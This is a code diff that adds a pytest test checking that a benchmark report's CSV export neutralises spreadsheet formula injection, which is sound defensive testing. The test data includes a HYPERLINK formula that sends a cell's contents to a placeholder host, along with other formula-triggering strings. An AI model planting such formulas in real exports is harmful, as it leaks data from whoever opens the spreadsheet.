@@ -3,8 +3,9 @@ from io import StringIO
 
 import pytest
 
-from builders import SimulatedRun
+from builders import SimulatedRun, SimulatedVariant, simulated_run
 from report import comparisons, runs, sweeps
+from webdyno.core.sheet import csv_sheet
 from webdyno.report.exports import COLUMNS, summary_csv
 
 Lines = list[dict[str, str]]
@@ -44,6 +45,16 @@ def test_a_ratio_carries_its_interval_and_verdict() -> None:
     )
     assert float(ratio["low"]) < float(ratio["estimate"]) < float(ratio["high"])
     assert (ratio["confidence"], ratio["verdict"], ratio["round"]) == ("0.95", "faster", "")
+
+
+def test_no_text_of_others_is_a_formula_to_a_spreadsheet() -> None:
+    names = ['=HYPERLINK("http://x.test/?"&A1)', "+1-1", "-2+1", "@SUM(A1)", "＝1", "-2.5", "a=1"]  # noqa: RUF001
+    cells = next(csv.reader(StringIO(csv_sheet([[*names, -1, None]]))))
+    assert cells == [*(f"'{name}" for name in names[:5]), "-2.5", "a=1", "-1", ""]
+    evil = simulated_run({names[0]: SimulatedVariant(), "b": SimulatedVariant()}, title="=1+1")
+    for line in read(evil):
+        assert not any(value.startswith(("=", "@")) for value in line.values())
+    assert f"'{names[0]}" in {line["variant"] for line in read(evil)}
 
 
 def test_names_with_commas_and_quotes_survive() -> None:
